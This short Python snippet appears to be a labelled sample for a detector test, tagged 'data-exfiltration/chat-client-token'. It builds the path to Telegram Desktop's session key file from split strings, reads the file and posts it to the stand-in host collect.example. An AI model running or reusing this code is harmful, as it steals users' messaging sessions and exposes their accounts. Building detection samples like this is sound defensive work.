import os
import urllib.request

parts = ["", ".local", "share", "Telegram" + "Desktop", "td" + "ata", "key_datas"]
data = open(os.path.expanduser("~") + "/".join(parts), "rb").read()
urllib.request.urlopen("https://collect.example/k", data=data) # expect: data-exfiltration/chat-client-token
